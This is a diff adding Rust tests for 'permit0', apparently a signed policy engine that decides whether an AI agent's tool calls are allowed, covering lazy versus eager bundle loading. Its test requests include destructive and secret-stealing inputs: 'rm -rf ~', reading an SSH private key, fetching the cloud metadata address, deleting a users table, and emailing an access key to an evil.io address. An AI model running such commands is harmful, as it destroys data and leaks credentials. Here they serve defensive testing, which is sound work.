@@ -225,3 +225,107 @@ fn trailing_bytes_inside_the_payload_are_refused() {
         LoadError::TrailingPayload(3)
     );
 }
+
+/// `permit0 hook` loads lazily: the envelope and signature cover every byte,
+/// but only the actions a request uses are decoded and verified. A signed
+/// bundle whose refund code jumps out of bounds: the eager load refuses the
+/// bundle; the lazy one loads it, denies every refund (the code never
+/// runs, and no human answer could make it) and decides other actions as
+/// the policy says.
+#[test]
+fn a_lazy_load_never_runs_code_that_fails_verification() {
+    let mut w = wire(
+        "when payments.refund amount > 500 then deny \"no\"\nwhen payments.refund then allow\nwhen payments.charge then allow",
+    );
+    refund_code(&mut w).insert(0, Instr::JumpIfTrue { to: 9999 });
+    let bytes = bundle::write(&w, &test_key()).unwrap();
+    match Program::load(&bytes, &trusted()) {
+        Err(LoadError::Invalid(msg)) => assert!(msg.contains("out of bounds"), "{msg}"),
+        other => panic!("the eager load should refuse the bundle: {other:?}"),
+    }
+    let p = Program::load_lazily(&bytes, &trusted()).unwrap();
+    let d = decide(
+        &p,
+        serde_json::json!({"action": "payments.refund",
+            "args": {"amount": 100, "currency": "usd", "charge_id": "ch_1"}}),
+    );
+    assert_eq!(d["decision"], "deny", "{d}");
+    let reason = d["reason"].as_str().unwrap();
+    assert!(
+        reason.contains("cannot run") && reason.contains("out of bounds"),
+        "{reason}"
+    );
+    let charge = serde_json::json!({"action": "payments.charge",
+        "args": {"amount": 100, "currency": "usd"}});
+    assert_eq!(verdict(&p, charge), "allow");
+    // A lazily loaded bundle is still a signed one: a flipped byte is
+    // refused before anything is decoded.
+    let mut flipped = bytes.clone();
+    flipped[40] ^= 1;
+    assert!(Program::load_lazily(&flipped, &trusted()).is_err());
+}
+
+/// Lazy and eager loads of the standard library decide every request of
+/// its test blocks alike (the lazy load builds each action on first use).
+#[test]
+fn lazy_and_eager_loads_decide_alike() {
+    let (c, _) = stdlib();
+    let bytes = permit0_compiler::build_bundle(c, &test_key()).unwrap();
+    let eager = Program::load(&bytes, &trusted())
+        .unwrap()
+        .with_builtins(&permit0_classify::CLASSIFIERS);
+    let lazy = Program::load_lazily(&bytes, &trusted())
+        .unwrap()
+        .with_builtins(&permit0_classify::CLASSIFIERS);
+    let requests = [
+        serde_json::json!({"tool": "Bash", "args": {"command": "cargo test"}, "context": {"workspace": "/home/dev/p"}}),
+        serde_json::json!({"tool": "Bash", "args": {"command": "rm -rf ~"}, "context": {"workspace": "/home/dev/p"}}),
+        serde_json::json!({"tool": "Read", "args": {"file_path": "/home/dev/.ssh/id_rsa"}, "context": {"workspace": "/home/dev/p"}}),
+        serde_json::json!({"tool": "WebFetch", "args": {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "x"}}),
+        serde_json::json!({"tool": "sql_query", "args": {"query": "DELETE FROM users"}}),
+        serde_json::json!({"action": "payments.refund", "args": {"amount": 900, "currency": "usd", "charge_id": "ch_1"}}),
+        serde_json::json!({"action": "email.send", "args": {"to": ["a@evil.io"], "subject": "hi", "body": "AKIAIOSFODNN7EXAMPLE"}}),
+        serde_json::json!({"tool": "no_such_tool", "args": {}}),
+        serde_json::json!({"action": "no.such_action", "args": {}}),
+    ];
+    for r in requests {
+        assert_eq!(decide(&eager, r.clone()), decide(&lazy, r.clone()), "{r}");
+    }
+}
+
+/// A tool mapping whose condition and fields do not decode (signed, so
+/// only the compiler or a holder of the key could have written it): the
+/// eager load refuses the bundle; the lazy one refuses every call of that
+/// tool — it never falls through to another mapping of the tool.
+#[test]
+fn a_tool_mapping_that_does_not_decode_refuses_its_calls() {
+    use permit0_vm::wire::{FramedAction, FramedTool};
+    let (c, _) = stdlib();
+    let bytes = permit0_compiler::build_bundle(c, &test_key()).unwrap();
+    let payload = permit0_vm::check_envelope(&bytes, None).unwrap().payload;
+    let mut w: BundleWire<FramedAction, FramedTool> = postcard::from_bytes(payload).unwrap();
+    let bash: Vec<usize> = (0..w.tools.len())
+        .filter(|&i| w.tools[i].names.iter().any(|n| n == "Bash"))
+        .collect();
+    assert!(!bash.is_empty());
+    for i in &bash {
+        // The frame says the mapping has no condition; flip that so the
+        // body disagrees with its frame.
+        w.tools[*i].conditional = !w.tools[*i].conditional;
+    }
+    let bytes = bundle::write(&w, &test_key()).unwrap();
+    match Program::load(&bytes, &trusted()) {
+        Err(LoadError::Invalid(msg)) => assert!(msg.contains("disagrees"), "{msg}"),
+        other => panic!("the eager load should refuse the bundle: {other:?}"),
+    }
+    let p = Program::load_lazily(&bytes, &trusted())
+        .unwrap()
+        .with_builtins(&permit0_classify::CLASSIFIERS);
+    let d = decide(
+        &p,
+        serde_json::json!({"tool": "Bash", "args": {"command": "ls"}, "context": {"workspace": "/home/dev/p"}}),
+    );
+    assert_eq!(d["decision"], "deny", "{d}");
+    let read = serde_json::json!({"tool": "Read", "args": {"file_path": "/home/dev/p/README.md"}, "context": {"workspace": "/home/dev/p"}});
+    assert_eq!(verdict(&p, read), "allow");
+}
